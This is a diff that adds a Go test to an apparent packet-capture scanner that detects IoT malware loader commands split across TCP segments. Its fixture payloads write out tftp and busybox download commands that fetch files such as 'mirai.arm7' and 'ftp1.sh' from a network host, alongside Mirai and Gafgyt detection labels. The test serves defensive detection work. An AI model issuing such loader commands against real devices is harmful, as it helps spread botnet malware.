@@ -296,3 +296,35 @@ func TestStreamNoAllocs(t *testing.T) {
 		t.Errorf("stats %+v: the segments were not joined and matched", st)
 	}
 }
+
+// TestStreamEndOfCapture: a command still open when the capture file ends
+// (the loader's line is the last thing in it, no separator after) is read
+// as complete there, as its sender's FIN would have it read: an unlisted
+// fetch is weak once, at its last segment; a listed name found while the
+// command was open is not found again; a FIN ends the command at once.
+func TestStreamEndOfCapture(t *testing.T) {
+	segs := []tseg{
+		{sport: 6001, dport: 23, seq: 1, payload: "tftp -g -r firmware.bin 10.0.0.9"},
+		{sport: 6002, dport: 80, seq: 1, payload: "cmd=busybox+tftp+-g+-r+mirai.arm7+10.0.0.9"},
+		{sport: 6003, dport: 23, seq: 1, payload: "tftp -g -r t"},
+		{sport: 6003, dport: 23, seq: 13, payload: "ftp1.sh 10.0.0.9"},
+		{sport: 6004, dport: 23, seq: 1, payload: "tftp -g -r x.bin 10.0.0.9"},
+		{sport: 6004, dport: 23, seq: 26, fin: true},
+	}
+	evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
+	for port, want := range map[uint16][]string{
+		6001: {"iot.tftp-dropper.generic/weak"},
+		6002: {"mirai.tftp-loader/strong"},
+		6003: {"gafgyt.tftp-loader/strong"},
+		6004: {"iot.tftp-dropper.generic/weak"},
+	} {
+		if got := found(evs, port); !slices.Equal(got, want) {
+			t.Errorf("port %d: %v, want %v", port, got, want)
+		}
+	}
+	for _, ev := range evs {
+		if want := map[uint16]uint64{6001: 1, 6002: 2, 6003: 4, 6004: 6}[ev.Port]; ev.Packet != want || ev.PCAP != "split.pcap" || !ev.Time.Equal(baseTime.Add(time.Duration(want-1)*time.Millisecond)) {
+			t.Errorf("%s at packet %d (%s), want packet %d", short(ev), ev.Packet, ev.Time, want)
+		}
+	}
+}
